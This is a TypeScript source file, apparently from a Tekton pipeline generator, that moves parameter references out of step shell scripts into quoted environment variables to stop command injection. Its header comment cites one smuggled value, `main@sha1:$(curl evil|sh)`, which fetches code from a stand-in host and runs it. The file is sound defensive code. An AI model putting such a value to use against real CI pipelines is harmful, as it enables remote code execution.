/**
 * No param reaches a shell as text. Tekton substitutes `$(params.x)` into a step's `script` before the
 * shell reads it, so a value such as `main@sha1:$(curl evil|sh)` would run as code (Tekton's own docs
 * recommend passing values through the environment instead). Every `$(params.…)` and `$(context.…)`
 * reference in a shell script (or in the script argument of `sh -c`) is moved into an environment
 * variable of the step, and the script reads the variable, quoted for where the reference stood:
 *
 * | where                      | `$(params.commit)` becomes            |
 * | -------------------------- | ------------------------------------- |
 * | unquoted                   | `"${PARAMS_COMMIT}"`                  |
 * | in double quotes           | `${PARAMS_COMMIT}`                    |
 * | in single quotes           | `'"${PARAMS_COMMIT}"'`                |
 * | in `$'…'`                  | `'"${PARAMS_COMMIT}"$'`               |
 * | in an unquoted heredoc     | `${PARAMS_COMMIT}`                    |
 *
 * The env var's value is the reference itself (`$(params.commit)`): Tekton substitutes it there as data.
 * A reference the move cannot keep exact (in a quoted heredoc, or in a script of another language) is a
 * synth error that says what to write instead. Workspace, result and step paths are Tekton's own and stay.
 */
import { VariableReference, referencesIn } from './references';

/** The shells whose scripts are rewritten; a script without a shebang runs under `sh`. */
const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'ksh', 'mksh', 'zsh', 'busybox']);

/** Reference roots whose values come from outside the Task's author: moved out of scripts. */
const MOVED = new Set(['params', 'context']);
/** What every reference with a moved root starts with (`referencesIn` trims the inside of `$(…)`, as `\s` matches). */
const MAYBE_MOVED = /\$\(\s*(?:params|context)/;

/** A step's (or sidecar's) fields the move reads and rewrites. */
export interface ScriptFields {
  readonly name: string;
  readonly script?: string;
  readonly command?: string[];
  readonly args?: string[];
  readonly env?: Array<{ name: string; value?: string; valueFrom?: unknown }>;
}

/** The fields after the move, and what could not be moved. */
export interface MovedScript {
  readonly script?: string;
  readonly command?: string[];
  readonly args?: string[];
  readonly env?: Array<{ name: string; value?: string; valueFrom?: unknown }>;
  readonly problems: string[];
}

/**
 * Moves the references of `fields` out of its script into env vars. `textParams` names the params the
 * author chose to have substituted as text (`substituteParamsAsText`).
 */
export function moveReferencesToEnv(fields: ScriptFields, textParams: readonly string[] = []): MovedScript {
  const env = [...(fields.env ?? [])];
  const taken = new Set(env.map((e) => e.name));
  const byReference = new Map<string, string>();
  const problems: string[] = [];
  const variableFor = (text: string, path: string[], root: string) => {
    const known = byReference.get(text);
    if (known) return known;
    const base = `${root}_${path.join('_')}`.toUpperCase().replace(/[^A-Z0-9_]/g, '_');
    let name = base;
    for (let i = 2; taken.has(name); i++) name = `${base}_${i}`;
    taken.add(name);
    byReference.set(text, name);
    env.push({ name, value: text });
    return name;
  };
  const rewrite = (script: string, where: string): string => {
    // nothing to move (and nothing to report) without a `$(params…` or `$(context…`: the lexer would give it back as it is
    if (!MAYBE_MOVED.test(script)) return script;
    const interpreter = interpreterOf(script);
    const isShell = SHELLS.has(interpreter);
    return rewriteShell(script, (ref, context) => {
      if (ref.root === 'params' && textParams.includes(ref.path[0])) return undefined;
      if (ref.path.length === 0 || ref.text.includes('[*]')) return undefined; // reported by the whole-param checks
      if (!isShell) {
        problems.push(`${where} is a ${interpreter} script: ${ref.text} would be pasted into its code as text. Pass it in the ` +
          'environment instead (env: { VALUE: <the param> }, then read it as the language does, e.g. os.environ[\'VALUE\']), or opt in ' +
          `by name: substituteParamsAsText: ['${ref.path[0]}']`);
        return undefined;
      }
      if (context === 'quoted-heredoc') {
        problems.push(`${where} uses ${ref.text} inside a quoted heredoc (<<'EOF'), where it cannot be read from the environment: ` +
          `use an unquoted delimiter (<<EOF), or opt in by name: substituteParamsAsText: ['${ref.path[0]}']`);
        return undefined;
      }
      const v = `\${${variableFor(ref.text, ref.path, ref.root)}}`;
      switch (context) {
        case 'double': case 'heredoc': case 'comment': return v;
        case 'single': return `'"${v}"'`;
        case 'ansi': return `'"${v}"$'`;
        default: return `"${v}"`;
      }
    });
  };

  let script = fields.script;
  let command = fields.command;
  let args = fields.args;
  if (script !== undefined) script = rewrite(script, `step '${fields.name}' script`);
  const shellArg = shellScriptArgument(command ?? [], args ?? []);
  if (shellArg) {
    const [list, index] = shellArg.inCommand ? ['command', shellArg.index] as const : ['args', shellArg.index] as const;
    const target = [...(list === 'command' ? command! : args!)];
    target[index] = rewrite(target[index], `step '${fields.name}' ${list}[${index}] (the script of ${shellArg.shell} -c)`);
    if (list === 'command') command = target; else args = target;
  }
  return { script, command, args, env: env.length ? env : undefined, problems };
}

/** The interpreter a script's shebang names (`sh` when it has none). */
export function interpreterOf(script: string): string {
  const end = script.indexOf('\n');
  const first = script.startsWith('#!') ? script.slice(2, end === -1 ? undefined : end).trim() : '';
  if (!first) return 'sh';
  const words = first.split(/\s+/);
  const program = words[0].split('/').pop()!;
  const named = program === 'env' ? words.slice(1).find((w) => !w.startsWith('-')) ?? 'env' : program;
  return named.replace(/[0-9.]+$/, '') || named;
}

/** Where `sh -c '<script>'` keeps its script: `[...command, ...args]` after the shell and its `-c` option. */
function shellScriptArgument(command: string[], args: string[]) {
  const all = [...command, ...args];
  if (all.length < 3) return undefined;
  const shell = all[0].split('/').pop()!;
  if (!SHELLS.has(shell)) return undefined;
  for (let i = 1; i < all.length - 1; i++) {
    const a = all[i];
    if (!a.startsWith('-')) return undefined;
    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) {
      const index = i + 1;
      return index < command.length ? { inCommand: true, index, shell } : { inCommand: false, index: index - command.length, shell };
    }
  }
  return undefined;
}

type Context = 'unquoted' | 'double' | 'single' | 'ansi' | 'heredoc' | 'quoted-heredoc' | 'comment';
type Replacer = (ref: VariableReference, context: Context) => string | undefined;

/**
 * Rewrites the moved references of a shell script, calling `replace` with each and the quoting context it
 * stands in (`undefined` keeps the text). A small lexer of POSIX shell quoting: backslashes, single and
 * double quotes, `$'…'`, comments, `$(…)` and backquote substitutions (a new unquoted context), heredocs.
 */
export function rewriteShell(script: string, replace: Replacer): string {
  type Frame = { kind: 'unquoted' | 'double' | 'single' | 'ansi' | 'comment'; depth: number; backquote?: boolean };
  const stack: Frame[] = [{ kind: 'unquoted', depth: 0 }];
  const pendingHeredocs: Array<{ delimiter: string; quoted: boolean; strip: boolean }> = [];
  let out = '';
  let i = 0;
  const top = () => stack[stack.length - 1];
  const atWordStart = () => i === 0 || /[\s;&|()<>]/.test(script[i - 1]);

  while (i < script.length) {
    const frame = top();
    const c = script[i];
    // A Tekton reference at this position?
    if (c === '$' && script[i + 1] === '(') {
      const ref = tektonReferenceAt(script, i);
      if (ref) {
        const replacement = MOVED.has(ref.root) ? replace(ref, frame.kind) : undefined;
        out += replacement ?? ref.text;
        i += ref.text.length;
        continue;
      }
    }
    if (frame.kind === 'comment') {
      if (c === '\n') {stack.pop();} else { out += c; i++; continue; }
    }
    if (frame.kind === 'single') {
      if (c === "'") stack.pop();
      out += c; i++; continue;
    }
    if (frame.kind === 'ansi') {
      if (c === '\\') { out += script.slice(i, i + 2); i += 2; continue; }
      if (c === "'") stack.pop();
      out += c; i++; continue;
    }
    if (c === '\\') { out += script.slice(i, i + 2); i += 2; continue; }
    if (frame.kind === 'double') {
      if (c === '"') { stack.pop(); out += c; i++; continue; }
      if (c === '$' && script[i + 1] === '(') { stack.push({ kind: 'unquoted', depth: 1 }); out += '$('; i += 2; continue; }
      if (c === '`') { stack.push({ kind: 'unquoted', depth: 0, backquote: true }); out += c; i++; continue; }
      out += c; i++; continue;
    }
    // unquoted
    if (c === "'") { stack.push({ kind: 'single', depth: 0 }); out += c; i++; continue; }
    if (c === '$' && script[i + 1] === "'") { stack.push({ kind: 'ansi', depth: 0 }); out += "$'"; i += 2; continue; }
    if (c === '"') { stack.push({ kind: 'double', depth: 0 }); out += c; i++; continue; }
    if (c === '#' && atWordStart()) { stack.push({ kind: 'comment', depth: 0 }); out += c; i++; continue; }
    if (c === '`') {
      if (frame.backquote) stack.pop(); else stack.push({ kind: 'unquoted', depth: 0, backquote: true });
      out += c; i++; continue;
    }
    if (c === '$' && script[i + 1] === '(') { stack.push({ kind: 'unquoted', depth: 1 }); out += '$('; i += 2; continue; }
    if (c === '(' && frame.depth > 0) { frame.depth++; out += c; i++; continue; }
    if (c === ')' && frame.depth > 0) {
      frame.depth--;
      if (frame.depth === 0 && stack.length > 1) stack.pop();
      out += c; i++; continue;
    }
    if (c === '<' && script[i + 1] === '<' && script[i + 2] !== '<') {
      const m = /^<<(-?)[ \t]*(?:'([^'\n]+)'|"([^"\n]+)"|\\?([A-Za-z0-9_]+))/.exec(script.slice(i));
      if (m) {
        const delimiter = m[2] ?? m[3] ?? m[4];
        pendingHeredocs.push({ delimiter, quoted: m[2] !== undefined || m[3] !== undefined || m[0].includes('\\'), strip: m[1] === '-' });
        out += m[0]; i += m[0].length; continue;
      }
    }
    if (c === '\n' && pendingHeredocs.length) {
      out += c; i++;
      // Heredoc bodies follow the line that opened them, one after the other.
      while (pendingHeredocs.length) {
        const h = pendingHeredocs.shift()!;
        while (i < script.length) {
          const end = script.indexOf('\n', i);
          const line = script.slice(i, end === -1 ? script.length : end);
          const bare = h.strip ? line.replace(/^\t+/, '') : line;
          i = end === -1 ? script.length : end + 1;
          if (bare === h.delimiter) { out += line + (end === -1 ? '' : '\n'); break; }
          out += rewriteHeredocLine(line, h.quoted ? 'quoted-heredoc' : 'heredoc', replace) + (end === -1 ? '' : '\n');
        }
      }
      continue;
    }
    out += c; i++;
  }
  return out;
}

function rewriteHeredocLine(line: string, context: Context, replace: Replacer): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] === '$' && line[i + 1] === '(') {
      const ref = tektonReferenceAt(line, i);
      if (ref) {
        out += (MOVED.has(ref.root) ? replace(ref, context) : undefined) ?? ref.text;
        i += ref.text.length;
        continue;
      }
    }
    out += line[i++];
  }
  return out;
}

/** The Tekton reference starting at `at`, if one does (shell's own `$(cmd)` is not one). */
function tektonReferenceAt(text: string, at: number) {
  const end = text.indexOf(')', at);
  if (end === -1) return undefined;
  const candidate = text.slice(at, end + 1);
  if (candidate.slice(2).includes('(')) return undefined;
  const [ref] = referencesIn(candidate);
  return ref && ref.text === candidate ? ref : undefined;
}
